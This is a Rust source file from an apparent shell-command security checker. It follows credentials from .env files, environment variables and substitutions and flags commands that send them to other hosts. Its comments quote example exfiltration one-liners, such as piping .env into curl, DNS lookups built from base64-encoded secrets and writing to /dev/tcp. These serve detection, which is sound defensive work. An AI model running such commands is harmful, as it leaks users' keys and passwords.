//! Credentials on their way out: from a file, the environment or a keeper of secrets, through pipes and substitutions,
//! into a program that sends them away.

use midrail_core::Severity;

use super::super::condition::does;
use super::super::invocation::{Arg, Folder, Invocation};
use super::super::programs::{Hosts, Tag};
use super::super::scope::Scope;
use super::super::{danger, files, hosts};
use super::flow::command_line;
use super::state::{MAX_COPIES, ProgramCall, Secret, Source, Stream, Walk};
use crate::words::shell::{COPIERS, LOGINS, SECRET_VARIABLES};

impl Walk {
    /// The credential that a program prints by itself or passes on.
    pub(super) fn printed_secret(&self, call: ProgramCall<'_>, scope: &Scope) -> Option<Secret> {
        let ProgramCall { invocation, input } = call;
        if scope.is_remote {
            return None;
        }
        let args = invocation.args.as_slice();
        let words: Vec<&str> = args.iter().map(|arg| arg.text.as_str()).collect();
        let prints = |subcommand: &&str| {
            let mut given = words.iter();
            subcommand.split_whitespace().all(|word| given.next() == Some(&word))
        };
        if invocation.row().secrets.iter().any(prints) {
            return Some(Secret::Token);
        }
        match invocation.family() {
            "env" | "printenv" if words.iter().all(|word| word.starts_with('-')) => Some(Secret::Content),
            "declare" | "typeset" | "export" | "set"
                if words.iter().all(|word| word.starts_with('-') && !word.contains(['f', 'F'])) =>
            {
                Some(Secret::Content)
            }
            "history" if words.iter().all(|word| word.bytes().all(|byte| byte.is_ascii_digit())) => {
                Some(Secret::Content)
            }
            "echo" | "printf" => match self.secret_in_words(args) {
                Some(secret) => Some(secret),
                None => args.last().filter(|arg| is_secret_variable(arg)).map(|_| Secret::Token),
            },
            "tar" | "zip" => {
                let is_secret = args.iter().any(|arg| self.is_secret_file(arg, scope));
                is_secret.then_some(Secret::Content)
            }
            _ if invocation.is(Tag::PrintsFiles) => {
                let mut touched = files::touched(invocation).into_iter();
                let is_secret =
                    touched.any(|file| file.is_read && self.is_secret_file(&Arg::known(&*file.path), scope));
                if is_secret { Some(Secret::Content) } else { secret_in(input) }
            }
            _ => None,
        }
    }

    /// Reports a program that sends credentials to another machine.
    pub(super) fn report_exfiltration(&mut self, invocation: &Invocation, scope: &Scope, input: &Stream) {
        let program = invocation.program.as_str();
        let args = invocation.args.as_slice();
        let flows = secret_in(input);
        let is_leak = match program {
            "curl" | "curlie" | "wget" => {
                (flows.is_some() && args.iter().any(|arg| sends_input(&arg.text))) || self.sends_word(args)
            }
            // A token on its way to `ssh` is most often there to log in.
            "ssh" => flows == Some(Secret::Content),
            _ => flows.is_some() && does(invocation, Tag::Sends),
        };
        // `cat .env | xargs curl -d`, `dig $(base64 .env).example.com`, `curl -F f=@copy`
        let contacts = || {
            let row = invocation.row();
            row.hosts != Hosts::None || !row.uploads.is_empty() || does(invocation, Tag::Sends)
        };
        let takes_input = invocation.has_more_args || args.iter().any(|arg| arg.text.contains("{}"));
        let is_leak = is_leak
            || (contacts()
                && ((takes_input && flows == Some(Secret::Content))
                    || self.sends_word(args)
                    || (!scope.is_remote && args.iter().any(|arg| self.names_secret_copy(arg, scope)))));
        let sends_file = || {
            let mut sent = files::uploaded(invocation).into_iter();
            sent.any(|file| danger::is_credential(&file, &invocation.folder))
        };
        let is_leak = is_leak || (!invocation.is_remote && sends_file());
        if !is_leak {
            return;
        }
        let hosts::Contacted { hosts, is_unknown } = hosts::contacted(invocation);
        if !is_unknown && !hosts.is_empty() && hosts.iter().all(|host| is_here(host)) {
            return;
        }
        self.report(
            "credential-exfiltration",
            Severity::High,
            format!("Sends keys, passwords or the environment away: {program} gets them from this machine"),
            "send nothing that gives access",
            &command_line(program, args),
        );
    }

    /// Whether a word holds what a substitution printed that is a credential: `-d "$(cat .env)"`.
    fn sends_word(&self, args: &[Arg]) -> bool {
        if self.secrets.is_empty() {
            return false;
        }
        let mut before = "";
        args.iter().any(|arg| {
            let is_login = LOGINS.contains(before)
                || arg.text.split_once('=').is_some_and(|(name, _)| LOGINS.contains(name))
                || arg.text.starts_with("-H");
            before = arg.text.as_str();
            let pieces = || arg.unknown.iter().filter_map(|range| arg.text.get(range.clone()));
            !is_login
                && pieces().any(|piece| match self.secrets.get(piece) {
                    Some(Secret::Content) => true,
                    Some(Secret::Token) => piece.len() == arg.text.len(),
                    None => false,
                })
        })
    }

    /// Remembers that a substitution produces a credential.
    pub(crate) fn keep_secret(&mut self, stream: &Stream, source: &str) {
        const MAX_SECRETS: usize = 64;
        if let Some(secret) = secret_in(stream)
            && self.secrets.len() < MAX_SECRETS
            && source.len() < 1000
        {
            self.secrets.insert(source.to_owned(), secret);
        }
    }

    /// Remembers that a variable holds a line of a credential: `read -r line < .env`.
    pub(super) fn keep_secret_variable(&mut self, name: &str, input: &Stream) {
        for spelling in
            [format!("${name}"), format!("${{{name}}}"), format!("${{{name}[*]}}"), format!("${{{name}[@]}}")]
        {
            self.keep_secret(input, &spelling);
        }
    }

    /// A file gets what a program prints, or what it is a copy of.
    pub(super) fn keep_secret_file(&mut self, place: &str, is_append: bool, is_secret: bool) {
        if is_secret && self.secret_files.len() < MAX_COPIES {
            self.secret_files.insert(place.to_owned());
        } else if !is_append && !is_secret {
            self.secret_files.remove(place);
        }
    }

    /// Remembers the files that a program makes from credentials: archives, encrypted and compressed files, copies.
    pub(super) fn keep_secret_copies(&mut self, invocation: &Invocation, scope: &Scope) {
        if scope.is_remote || !COPIERS.contains(invocation.family()) {
            return;
        }
        let key_value = |arg: &Arg, key: &str| arg.text.strip_prefix(key).map(str::to_owned);
        let args = invocation.args.as_slice();
        let names_secret = args.iter().any(|arg| {
            let file = key_value(arg, "if=").map_or_else(|| arg.clone(), Arg::known);
            !arg.text.starts_with('-') && self.is_secret_file(&file, scope)
        });
        if !names_secret {
            return;
        }
        let made =
            files::touched(invocation).into_iter().filter(|file| file.is_written).map(|file| file.path);
        let copied = args
            .iter()
            .filter_map(|arg| key_value(arg, "of="))
            .chain(args.last().map(|arg| arg.text.clone()));
        let places: Vec<String> = made.chain(copied).map(|path| scope.place(&path)).collect();
        places.iter().for_each(|place| self.keep_secret_file(place, true, true));
    }

    /// Whether a file holds credentials: by its name, or because the line made it from such a file.
    pub(super) fn is_secret_file(&self, file: &Arg, scope: &Scope) -> bool {
        danger::is_credential(file, &scope.folder) || self.secret_files.contains(&scope.place(&file.text))
    }

    /// Whether a word names a file that the line made from credentials: `x`, `@x`, `file=@x`, `box:x`.
    fn names_secret_copy(&self, arg: &Arg, scope: &Scope) -> bool {
        let named = arg.text.rsplit(['@', '=', '<', ':']).next().unwrap_or("");
        let named = named.split(';').next().unwrap_or("");
        let is_it = |name: &str| !name.is_empty() && self.secret_files.contains(&scope.place(name));
        !self.secret_files.is_empty() && (is_it(named) || is_it(&arg.text))
    }

    /// The credential that words hold.
    pub(super) fn secret_in_words(&self, args: &[Arg]) -> Option<Secret> {
        let pieces =
            args.iter().flat_map(|arg| arg.unknown.iter().filter_map(|range| arg.text.get(range.clone())));
        pieces.filter_map(|piece| self.secrets.get(piece).copied()).next()
    }

    /// Reports what a command prints into a connection: `cat .env > /dev/tcp/host/80`.
    pub(super) fn report_sent_output(&mut self, stream: &Stream) {
        if secret_in(stream) == Some(Secret::Content) {
            self.report(
                "credential-exfiltration",
                Severity::High,
                "Sends keys, passwords or the environment away: the output goes into a connection".to_owned(),
                "send nothing that gives access",
                &stream.program,
            );
        }
    }
}

/// The credential that flows in a stream.
pub(super) fn secret_in(stream: &Stream) -> Option<Secret> {
    match &stream.source {
        _ if stream.secret.is_some() => stream.secret,
        Source::File(name) if is_credential_place(name) => Some(Secret::Content),
        _ => None,
    }
}

/// Whether an argument of `curl` or `wget` sends what it reads: `-d @-`, `-T -`, `-F x=@-`, `--post-file=/dev/stdin`.
fn sends_input(text: &str) -> bool {
    matches!(text, "-" | "." | "-T-" | "/dev/stdin")
        || text.ends_with("@-")
        || text.ends_with("<-")
        || text.ends_with("/dev/stdin")
        || text.ends_with("=-")
        || text.contains("@-;")
}

/// A word that is nothing but a variable with the name of a credential.
fn is_secret_variable(arg: &Arg) -> bool {
    let is_all = matches!(arg.unknown.as_slice(), [range] if range.start == 0 && range.end == arg.text.len());
    let name = arg.text.trim_start_matches(['$', '{']).trim_end_matches('}').to_ascii_uppercase();
    is_all && !arg.text.starts_with("$(") && SECRET_VARIABLES.iter().any(|mark| name.contains(mark))
}

fn is_here(host: &str) -> bool {
    host == "localhost" || host.starts_with("127.") || host == "[::1]" || host == "0.0.0.0"
}

/// Whether the file at a place holds credentials by its name.
pub(super) fn is_credential_place(place: &str) -> bool {
    danger::is_credential(&Arg::known(place), &Folder::Known(String::new()))
}
